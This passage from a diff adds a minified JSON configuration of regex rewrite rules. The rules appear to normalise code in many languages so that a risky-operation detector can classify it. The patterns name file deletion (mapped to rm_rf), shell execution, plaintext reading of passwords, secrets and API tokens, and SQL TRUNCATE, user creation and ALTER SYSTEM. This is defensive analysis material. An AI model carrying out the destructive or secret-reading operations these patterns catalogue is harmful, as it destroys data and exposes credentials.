+]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bw\
+here\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>\
+","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1(\
+[^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"\
+],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("\
+],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\\
+bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\\
+bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\
+\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z\
+]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[\
+((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:\
+[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\
+\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","text\
+s":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\
+\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^\
+()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?\
+(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,)\
+{\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory\
+)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:u\
+nwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val\
+)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?pl\
+ainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|\
+compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","U\
+RI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:(?:jenkins\\\\.mo\
+del\\\\.)?Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?",\
+"jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\
+\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)"\
+,".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{}\
+]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([\
+^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)\
+(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\\w*\\\\s*:)","{"],["(function \\\\w\
++\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { \
+return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^(\
+[ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => \
+"],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if\
+|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?\
+<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^\
+()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\
+\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed"\
+:{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\\
+"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^(?:script )?eval ",""]\
+,["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:\
+;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,\
+;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$\
+1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(\
+?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\
+\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filt\
+erNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"\
+],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|ab\
+solute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:(?:jenkins\\\\.model\\\\.)?Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|ge\
+t\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\
+\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*\
+)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\
+\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{\
+)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.\
+writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|synchroni\
+zed|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\\
+[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*\
+(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(\
+?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|in\
+stanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor(?:each)?\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\\
+w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = spri\
+ntf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\
+\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else\
+|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \
+\\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n\
+]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])"\
+,"$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:se\
+t|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\\
+s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\
+\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","s\
+ystem($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+\
+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)(?:\\\\s+[^\\\\s\\\\]]+){0,20}\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","\
+glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1\
+))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])",\
+"$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]\
+","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\
+\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}\
+])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=\\\\(\\\\s{0,9})[a-z][\\\
+\\w.-]*\\\\/(?=[a-z])",""],["(?<=\\\\w)!(?=\\\\s)",""],["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\\
+[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\\
+(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\
+\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|whe\
+n|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["(\\\\w)\\\\s+\\\\[","$1, ["],["\\\\(\\\\s*(?:expand_file_n\
+ame|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\\
+"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\
+\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""]\
+,["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forCon\
+currently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(ca\
+llCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\
+\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendF\
+ile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\
+\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|sh\
+ell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\\
+w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"","interpolation":"none","tripl\
+e":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!=\
+=":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"wo\
+rds":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"],["USER","ROLE","LOGIN"]],"doe\
+s":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTEM"]],"does":"set-global","name"\
+:3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","name":1},{"words":[["GR\
